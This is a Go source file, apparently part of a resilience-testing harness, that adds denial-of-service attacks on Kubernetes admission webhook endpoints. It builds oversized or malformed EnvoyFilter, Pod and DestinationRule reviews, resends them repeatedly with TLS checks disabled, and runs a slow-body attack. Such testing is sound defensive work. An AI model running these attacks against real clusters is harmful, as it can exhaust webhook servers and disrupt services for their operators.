@@ -1,0 +1,103 @@
+package attack
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"fmt"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+)
+
+// The attacks on the address of admission webhooks, which asks for no credential. Reviews that an API server would pass on are of HeavyFilter, LargePod and
+// WrongRule.
+
+// ReviewAttacks are their names.
+var ReviewAttacks = []string{"reviews-heavy", "reviews-pods", "reviews-wrong", "reviews-slow"}
+
+// heavyValues is how many values make a review of 8 MB, and TenantValues how many one that an API server takes (3 MB).
+const heavyValues, TenantValues = 2_700_000, 900_000
+
+// HeavyFilter is an EnvoyFilter, as JSON, whose patch has a list of so many objects without a field: each is three bytes, and hundreds once it is decoded.
+func HeavyFilter(namespace string, values int) []byte {
+	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1alpha3","kind":"EnvoyFilter","metadata":{"name":"heavy","namespace":%q},"spec":{"configPatches":[`+
+		`{"applyTo":"CLUSTER","patch":{"operation":"MERGE","value":{"a":[%s{}]}}}]}}`, namespace, strings.Repeat("{},", values))
+}
+
+// LargePod is a Pod, as JSON, with so many volumes that each names itself alone.
+func LargePod(namespace string, volumes int) []byte {
+	var all bytes.Buffer
+	for i := range volumes {
+		fmt.Fprintf(&all, `{"name":"v%d"},`, i)
+	}
+	return fmt.Appendf(nil, `{"apiVersion":"v1","kind":"Pod","metadata":{"name":"large","namespace":%q},"spec":{"containers":[{"name":"app","image":"app"}],"volumes":[%s{"name":"v"}]}}`,
+		namespace, all.Bytes())
+}
+
+// LargeVolumes is how many make a Pod of 1 MB.
+const LargeVolumes = 60_000
+
+// WrongRule is a DestinationRule, as JSON, of 58 KB: its subsets have no name.
+func WrongRule(namespace string) []byte {
+	return fmt.Appendf(nil, `{"apiVersion":"networking.istio.io/v1","kind":"DestinationRule","metadata":{"name":"wrong","namespace":%q},"spec":{"host":"a","subsets":[%s{}]}}`,
+		namespace, strings.Repeat("{},", 19_000))
+}
+
+// reviewOf is an API server's review of the creation of an object.
+func reviewOf(group, version, kind string, object []byte) []byte {
+	return fmt.Appendf(nil, `{"apiVersion":"admission.k8s.io/v1","kind":"AdmissionReview","request":{"uid":"1","kind":{"group":%q,"version":%q,"kind":%q},"namespace":"tenant",`+
+		`"operation":"CREATE","object":%s}}`, group, version, kind, object)
+}
+
+var (
+	heavyReview = sync.OnceValue(func() []byte {
+		return reviewOf("networking.istio.io", "v1alpha3", "EnvoyFilter", HeavyFilter("tenant", heavyValues))
+	})
+	largeReview = sync.OnceValue(func() []byte { return reviewOf("", "v1", "Pod", LargePod("tenant", LargeVolumes)) })
+	wrongReview = sync.OnceValue(func() []byte {
+		return reviewOf("networking.istio.io", "v1", "DestinationRule", WrongRule("tenant"))
+	})
+)
+
+func heavyReviews(ctx context.Context, w *attacker) string {
+	return w.reviews(ctx, "/validate", heavyReview())
+}
+func largeReviews(ctx context.Context, w *attacker) string {
+	return w.reviews(ctx, "/inject", largeReview())
+}
+func wrongReviews(ctx context.Context, w *attacker) string {
+	return w.reviews(ctx, "/validate", wrongReview())
+}
+
+// reviews sends one review again and again on one connection, and reads the answers.
+func (w *attacker) reviews(ctx context.Context, path string, body []byte) string {
+	transport := &http.Transport{MaxConnsPerHost: 1, DisableCompression: true, TLSClientConfig: &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12},
+		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) { return w.dialTo(ctx, w.Webhooks) }}
+	defer transport.CloseIdleConnections()
+	for {
+		r, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://localhost"+path, bytes.NewReader(body))
+		if err != nil {
+			return err.Error()
+		}
+		r.Header.Set("Content-Type", "application/json")
+		if came := w.exchange(ctx, transport, r); came != "" {
+			return came
+		}
+	}
+}
+
+// slowReviews announces a review of 8 MB, sends one byte of it, and waits for what the server does.
+func slowReviews(ctx context.Context, w *attacker) string {
+	raw, err := w.dialTo(ctx, w.Webhooks)
+	if err != nil {
+		return w.unconnected(ctx)
+	}
+	defer raw.Close()
+	conn := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, MinVersion: tls.VersionTLS12})
+	if _, err := fmt.Fprintf(conn, "POST /validate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n{", 8<<20); err != nil {
+		return w.unconnected(ctx)
+	}
+	return wait(ctx, conn)
+}
